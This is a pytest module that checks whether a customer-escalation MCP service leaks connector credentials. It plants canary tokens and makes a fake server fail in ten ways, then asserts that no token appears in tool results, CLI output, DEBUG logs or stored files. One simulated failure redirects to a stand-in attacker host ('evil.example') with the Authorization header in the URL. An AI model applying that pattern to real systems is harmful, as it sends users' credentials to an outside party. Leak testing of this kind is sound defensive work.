"""Secrets never leak: a canary token configured for every connector, every failure path, every output.

All ten systems are configured from environment variables pointing at one loopback fake, each with
its own canary token. The fake then fails in every way a system can (auth failure, a 500 that
echoes the whole request back, malformed JSON, a hang, a dropped connection) and the HTTP layer
raises exceptions that carry the token. Neither the canaries nor the exact credential strings that
went over the wire (Basic auth is base64) may appear in any tool result or error, CLI output, log
line at DEBUG, or byte of the local store.
"""

from __future__ import annotations

import base64
import importlib
import json
import logging
from pathlib import Path

import anyio
import httpx2
import pytest
from mcp import Client

from customer_escalation import cli
from customer_escalation.connectors import registry
from customer_escalation.server import build_server
from customer_escalation.service import Service
from customer_escalation.settings import Settings
from tests.fakes.harness import FakeService, Reply
from tests.helpers import SMALL

pytestmark = pytest.mark.anyio


# every system: a connector module that fails to import fails this test rather than being left out
SYSTEMS = list(registry.SYSTEMS)
for _system in SYSTEMS:
    importlib.import_module(f"customer_escalation.connectors.{_system}")


def canary(system: str, var: str) -> str:
    return f"CANARY{system}{var.split('_')[-1]}x9Q7"


def environment(url: str) -> dict[str, str]:
    """Every variable of every available connector: secrets get canaries, URLs the fake, the rest plausible values."""
    env: dict[str, str] = {}
    for system in SYSTEMS:
        mod = registry.module(system)
        for var in getattr(mod, "ENV_VARS", registry.SYSTEMS[system][1]):
            upper = var.upper()
            if any(w in upper for w in ("TOKEN", "KEY", "SECRET", "PASSWORD")):
                env[var] = canary(system, var)
            elif upper.endswith("_URL"):
                env[var] = url
            elif upper.endswith("_EMAIL"):
                env[var] = f"agent@{system}.example"
            elif upper.endswith("_REPOSITORY"):
                env[var] = "acme/app"
    return env


def secrets_of(env: dict[str, str]) -> list[str]:
    values = [v for k, v in env.items() if v.startswith("CANARY")]
    # credentials as they travel: Basic auth of every email:secret pairing the connectors might build
    emails = [v for k, v in env.items() if k.upper().endswith("_EMAIL")]
    for secret in list(values):
        for email in emails:
            for pair in (f"{email}:{secret}", f"{email}/token:{secret}"):
                values.append(base64.b64encode(pair.encode()).decode())
    return values


def echo(request) -> dict:
    return {"method": request.method, "path": request.path, "query": request.query, "headers": request.headers,
            "body": request.body.decode("utf-8", "replace"), "message": f"bad token {request.header('Authorization')}"}


FAILURES = {
    "auth_failed": lambda r: Reply(401, echo(r)),
    "forbidden": lambda r: Reply(403, echo(r)),
    "server_error_echoing_the_request": lambda r: Reply(500, echo(r)),
    "rate_limited": lambda r: Reply(429, echo(r), headers={"Retry-After": "0"}),
    "unexpected_shape_echoing_the_request": lambda r: Reply(200, echo(r)),
    "malformed_json": lambda r: Reply(200, raw=json.dumps(echo(r)).encode()[:-7]),
    "html_error_page": lambda r: Reply(502, f"<html>{json.dumps(echo(r))}</html>", headers={"Content-Type": "text/html"}),
    "redirect_to_a_url_with_the_token": lambda r: Reply(302, "", headers={"Location": f"https://evil.example/?t={r.header('Authorization')}"}),
    "hang": lambda r: Reply(hang=True),
    "dropped": lambda r: Reply(drop=True),
}


class SwitchableFake:
    """One loopback fake for the module (starting and stopping one costs ~0.4 s); each test picks its failure."""

    def __init__(self):
        self.handler = FAILURES["auth_failed"]
        self.fake = FakeService("everything")
        for method in ("GET", "POST", "PUT", "PATCH", "DELETE"):
            self.fake.route(method, r"/.*")(lambda r: self.handler(r))
        self.fake.start()

    @property
    def url(self) -> str:
        return self.fake.url

    @property
    def requests(self):
        return self.fake.requests


@pytest.fixture(scope="module")
def switchable():
    fake = SwitchableFake()
    yield fake
    fake.fake.stop()


@pytest.fixture
def fake_for(switchable):
    def use(failure: str) -> SwitchableFake:
        switchable.handler = FAILURES[failure]
        switchable.fake.requests.clear()
        return switchable

    return use


def leaks(text: str, secrets: list[str]) -> list[str]:
    return [s[:16] + "…" for s in secrets if s and s in text]


def store_bytes(home: Path) -> str:
    return "".join(p.read_bytes().decode("latin-1") for p in sorted(home.rglob("*")) if p.is_file())


DEADLINE, SOURCE_TIMEOUT = 1.0, 0.3


async def run_tools(tmp_path, env) -> tuple[str, list]:
    """The tool chain over MCP; only gather_context talks to the systems, the rest work from its draft."""
    home = tmp_path / "home"
    service = Service(Settings(workspace=SMALL, home=home, gather_deadline=DEADLINE, source_timeout=SOURCE_TIMEOUT), env=env)
    outputs = []
    async with Client(build_server(service)) as c:
        g = await c.call_tool("gather_context", {"issue": "CSV export is missing rows", "account": "Acme Corp"})
        outputs.append(g)
        draft = (g.structured_content or {}).get("draft_id", "")
        for tool in ("assess_impact", "choose_tier", "render_brief"):
            outputs.append(await c.call_tool(tool, {"draft_id": draft}))
    service.close()
    text = ""
    for r in outputs:
        text += "\n".join(getattr(b, "text", "") for b in r.content) + json.dumps(r.structured_content or {})
    return text + store_bytes(home), outputs


async def run_cli(tmp_path, env, capsys, monkeypatch) -> str:
    """The CLI's brief and its connectors check (which calls each system's check())."""
    home = tmp_path / "cli-home"
    for key, value in env.items():
        monkeypatch.setenv(key, value)
    monkeypatch.setenv("CUSTOMER_ESCALATION_SOURCE_TIMEOUT", str(SOURCE_TIMEOUT))
    monkeypatch.setenv("CUSTOMER_ESCALATION_DEADLINE", str(DEADLINE))
    # the CLI runs its own event loop: on a worker thread
    await anyio.to_thread.run_sync(cli.main, ["brief", "CSV export is missing rows", "--account", "Acme Corp", "--workspace", SMALL,
                                              "--home", str(home)])
    await anyio.to_thread.run_sync(cli.main, ["connectors", "--json"])
    out = capsys.readouterr()
    return out.out + out.err + store_bytes(home)


def configured_env(fake: SwitchableFake) -> dict[str, str]:
    env = environment(fake.url)
    configured = registry.from_env(env)
    assert not configured.misconfigured, [e.message for e in configured.misconfigured]
    assert {c.name for c in configured.connectors} == set(SYSTEMS)
    return env


def assert_credentials_were_sent(fake: SwitchableFake, secrets: list[str]) -> None:
    """So the check is not vacuous: the connectors did send their credentials to the fake."""
    sent = " ".join(v for r in fake.requests for v in r.headers.values()) + " ".join(r.path + str(r.query) for r in fake.requests)
    assert fake.requests and leaks(sent, secrets)


@pytest.mark.parametrize("failure", list(FAILURES))
async def test_no_canary_in_results_errors_logs_or_the_store(tmp_path, failure, caplog, fake_for):
    caplog.set_level(logging.DEBUG)
    fake = fake_for(failure)
    env = configured_env(fake)
    text, outputs = await run_tools(tmp_path, env)
    secrets = secrets_of(env)
    assert_credentials_were_sent(fake, secrets)
    assert not leaks(text, secrets), failure
    assert not leaks(caplog.text, secrets), failure
    if failure != "unexpected_shape_echoing_the_request":  # a 200 of an unknown shape may fairly read as "nothing found"
        sources = outputs[0].structured_content["context"]["sources"]
        assert all(s["state"] != "ok" for s in sources if s["source"] != "workspace"), sources
    # every system failing in this way leaves exactly what the workspace alone gives: nothing half-parsed merged in
    if not _ALONE:
        _ALONE.append((await run_tools(tmp_path / "alone", {}))[1][0].structured_content["context"])
    merged = {k: v for k, v in outputs[0].structured_content["context"].items() if k != "sources"}
    assert merged == {k: v for k, v in _ALONE[0].items() if k != "sources"}


_ALONE: list[dict] = []  # the context the workspace alone gives (the same for every failure)


@pytest.mark.parametrize("failure", ["auth_failed", "server_error_echoing_the_request"])
async def test_no_canary_in_cli_output_logs_or_the_store(tmp_path, failure, caplog, capsys, monkeypatch, fake_for):
    caplog.set_level(logging.DEBUG)
    fake = fake_for(failure)
    env = configured_env(fake)
    text = await run_cli(tmp_path, env, capsys, monkeypatch)
    secrets = secrets_of(env)
    assert_credentials_were_sent(fake, secrets)
    assert "ESCALATION" in text  # the brief was printed
    assert not leaks(text, secrets), failure
    assert not leaks(caplog.text, secrets), failure


async def test_exceptions_carrying_the_token_do_not_leak(tmp_path, caplog, capsys, monkeypatch):
    """The HTTP layer itself raises with the credential in the message (as a proxy or a TLS error might)."""
    caplog.set_level(logging.DEBUG)

    async def send(self, request, **kwargs):
        auth = request.headers.get("Authorization", "") + " " + str(request.url)
        kind = len(request.url.path) % 3
        if kind == 0:
            raise httpx2.ConnectError(f"cannot connect with {auth}", request=request)
        if kind == 1:
            raise RuntimeError(f"proxy said no to {auth}")
        raise ValueError(f"bad header {auth}")

    monkeypatch.setattr(httpx2.AsyncClient, "send", send)
    env = environment("http://127.0.0.1:9")
    text, outputs = await run_tools(tmp_path, env)
    text += await run_cli(tmp_path, env, capsys, monkeypatch)
    secrets = secrets_of(env)
    assert not leaks(text, secrets)
    assert not leaks(caplog.text, secrets)
    assert all(s["state"] != "ok" for s in outputs[0].structured_content["context"]["sources"] if s["source"] != "workspace")


def test_connector_objects_never_show_credentials_in_repr():
    env = environment("http://127.0.0.1:9")
    secrets = secrets_of(env)
    for connector in registry.from_env(env).connectors:
        shown = repr(connector) + str(connector)
        assert not leaks(shown, secrets), connector.name


@pytest.mark.parametrize("failure", ["auth_failed", "server_error_echoing_the_request", "malformed_json", "dropped"])
async def test_no_canary_on_the_write_path(tmp_path, failure, caplog, fake_for):
    """Filing to the tracker and chat when the create call itself fails (reads answer empty, so the marker lookup
    finds nothing and the create is sent): the refusal, the escalation log and the logs stay clean."""
    caplog.set_level(logging.DEBUG)
    fake = fake_for(failure)
    empty = {"ok": True, "issues": [], "messages": [], "channels": [], "results": [], "values": [], "total": 0, "isLast": True}

    def writes_fail(r):
        creating = (r.method == "POST" and r.path.endswith("/issue")) or r.path.endswith("chat.postMessage")
        return FAILURES[failure](r) if creating else Reply(200, empty)

    fake.handler = writes_fail
    env = configured_env(fake)
    home = tmp_path / "home"
    service = Service(Settings(workspace=SMALL, home=home, gather_deadline=DEADLINE, source_timeout=SOURCE_TIMEOUT, enable_writes=True),
                      env=env)
    texts = []
    async with Client(build_server(service)) as c:
        brief = await c.call_tool("render_brief", {"issue": "CSV export is missing rows", "account": "Acme Corp"})
        draft = brief.structured_content["draft_id"]
        for args in ({"draft_id": draft}, {"draft_id": draft, "confirm": True}, {"draft_id": draft, "confirm": True}):
            r = await c.call_tool("file_escalation", args)
            texts.append("\n".join(getattr(b, "text", "") for b in r.content) + json.dumps(r.structured_content or {}))
        listed = await c.call_tool("list_escalations", {})
        texts.append(json.dumps(listed.structured_content or {}))
        for e in (listed.structured_content or {}).get("escalations", []):
            shown = await c.call_tool("show_escalation", {"escalation_id": e["id"]})
            texts.append(json.dumps(shown.structured_content or {}))
    service.close()
    secrets = secrets_of(env)
    writes = [r for r in fake.requests if r.method in ("POST", "PUT", "PATCH")]
    assert any(r.path.endswith("/issue") for r in writes), "the create call was sent"
    assert_credentials_were_sent(fake, secrets)
    assert not leaks("\n".join(texts) + store_bytes(home), secrets), failure
    assert not leaks(caplog.text, secrets), failure
